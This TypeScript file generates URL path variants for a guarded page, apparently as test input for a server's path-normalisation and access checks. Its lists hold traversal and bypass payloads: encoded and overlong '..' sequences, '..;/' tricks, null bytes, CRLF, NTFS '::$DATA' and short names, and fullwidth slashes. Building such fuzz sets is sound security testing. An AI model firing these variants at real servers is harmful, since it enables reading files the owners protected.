/** Ways to write the path of a guarded page, for servers that decode, cut, fold and climb. */

/** Bytes for the `/` between two names, or beside it. */
const separators = [
  '/',
  '//',
  '///',
  '/./',
  '/%2e/',
  '/.//',
  '%2f',
  '/%2f',
  '%2f/',
  '%252f',
  '%25252f',
  '%5c',
  '/%5c',
  '\\',
  '%255c',
  '%c0%af',
  '%e0%80%af',
  '%ef%bc%8f',
  '%e2%88%95',
  '%u002f',
  '%u2215',
  '/;/',
  ';/',
  ';a=b/',
  '/;a=b;c/',
  '%3b/',
  '%00/',
  '/%00/',
  '%20/',
  '/%20/',
  '%09/',
  '%0a/',
  '/%0d%0a/',
  '%7f/',
  '%ff/',
  '?/',
  '%3f/',
  '%23/',
  './',
  '../',
  '.../',
]

/** What comes before the names, so that a server climbs back to the root. */
const beginnings = [
  '/',
  '//',
  '/.//',
  '/%2e/',
  '/;/',
  '/%2f',
  '/%5c',
  '/public/../',
  '/public/..//',
  '/public/..;/',
  '/public/..;a=b/',
  '/public/..%3b/',
  '/public/%2e%2e/',
  '/public/.%2e/',
  '/public/%2E./',
  '/public/..%2f',
  '/public/%2e%2e%2f',
  '/public%2f..%2f',
  '/public/..%5c',
  '/public/..\\',
  '/public/%252e%252e/',
  '/public/%252e%252e%252f',
  '/public/..%252f',
  '/public/..%c0%af',
  '/public/%c0%ae%c0%ae/',
  '/public/%c0%2e%c0%2e/',
  '/public/%e0%80%ae%e0%80%ae/',
  '/public/%uff0e%uff0e/',
  '/public/%ef%bc%8e%ef%bc%8e/',
  '/public/%e2%80%a5/',
  '/public/..%00/',
  '/public/..%20/',
  '/public/..%09/',
  '/public/..%0a/',
  '/public/..%0d/',
  '/public/..%ff/',
  '/public/..%c2%ad/',
  '/public/.%00./',
  '/public/...//',
  '/public/..../',
  '/public/x/..;/../',
  '/public/x/%2e%2e/%2e%2e/',
  '/public/x/..%2f..%2f',
  '/public/page.txt/../../',
  '/public/page.txt/..;/..;/',
  '/public/page.txt/..%2f..%2f',
  '/public;/../',
  '/public;/..%2f',
  '/public%3b/..%2f',
  '/public%00/../',
  '/public../',
  '/static../',
  '/static..%2f',
  '/static/../',
  '/static/..%2f',
  '/static/..;/',
  '/static/%2e%2e%2f',
  '/public/echo.php/../../',
  '/public/echo.php/..%2f..%2f',
  '/public/./../',
  '/public//../',
  '/public/%2f../',
  '/public/%2f..%2f',
  '/public/%2f..%2f..%2f',
  'http://open.localhost/',
  '//open.localhost/',
  '/http://open.localhost/',
  '/public/http:/../../',
]

/** Spellings of a name. */
const spellings = (name: string): readonly string[] => {
  const [first, last] = [name.slice(0, 1), name.slice(-1)]
  const hex = (letter: string) => letter.charCodeAt(0).toString(16)
  const rest = name.slice(1)
  const all = Array.from(name, (letter) => `%${hex(letter)}`).join('')
  const wide = (letter: string) =>
    encodeURIComponent(String.fromCharCode(letter.charCodeAt(0) + 0xfee0)).toLowerCase()
  return [
    name,
    name.toUpperCase(),
    first.toUpperCase() + rest,
    `%${hex(first)}${rest}`,
    `%${hex(first.toUpperCase())}${rest}`,
    all,
    all.replaceAll('%', '%25'),
    `%25${hex(first)}${rest}`,
    `%2525${hex(first)}${rest}`,
    `%u00${hex(first)}${rest}`,
    `%%${hex(first)}${hex(first)}${rest}`,
    `${wide(first)}${rest}`,
    `${name}.`,
    `${name}..`,
    `${name}%20`,
    `%20${name}`,
    `${name}%00`,
    `%00${name}`,
    `${first}%00${rest}`,
    `${first}%0a${rest}`,
    `${first}%09${rest}`,
    `${first}%ff${rest}`,
    `${first}%${rest}`,
    `${first}%c2%ad${rest}`,
    `${first}%cc%81${rest}`,
    `${first}%e2%80%8b${rest}`,
    `${name};`,
    `${name};a=b`,
    `${name}%3b`,
    `;a=b${name}`,
    `${name}%3fx`,
    `${name}%23x`,
    `${name}%0d%0a`,
    `${name}%0d%0ax:y`,
    `${name}::$DATA`,
    `${name}:$i30:$INDEX_ALLOCATION`,
    `${name}~1`,
    `${name.slice(0, -1)}%${hex(last)}`,
    `${name.slice(0, 6)}~1`,
    `${name.slice(0, -1)}*`,
    `.${name}`,
    `${name}%2e`,
    `${name}%2e%2e`,
    `%2e%2e%2f${name}`,
  ]
}

const endings = [
  '',
  '/',
  '/.',
  '?',
  '??',
  '%3f',
  '%3fx',
  '%23',
  '%23x',
  '#',
  ';',
  ';x=y',
  '%3b',
  '%00',
  '%00.txt',
  '%0a',
  '%20',
  '.',
  '%2e',
  '/..;/page.txt',
  '?/../x',
  '%26',
  '&',
  '/index.php',
]

/**
 * Every pair of two changed places in `/guarded/page.txt` and `/guarded/handler`, the rest of the
 * path being plain. All combinations would be two million.
 */
export function waysToGuarded(): readonly string[] {
  const plain = { beginning: '/', folder: 'guarded', separator: '/', file: 'page.txt', ending: '' }
  const places = {
    beginning: beginnings,
    folder: spellings('guarded'),
    separator: separators,
    file: [...spellings('page.txt'), 'handler', 'HANDLER', 'deep/page.txt', 'deep/../page.txt'],
    ending: endings,
  }
  const all = new Set<string>()
  const add = (change: Partial<typeof plain>) => {
    const { beginning, folder, separator, file, ending } = { ...plain, ...change }
    all.add(beginning + folder + separator + file + ending)
  }
  const keys = Object.keys(places) as (keyof typeof places)[]
  for (const [i, one] of keys.entries()) {
    for (const other of keys.slice(i + 1)) {
      for (const a of places[one]) for (const b of places[other]) add({ [one]: a, [other]: b })
    }
  }
  return [...all]
}
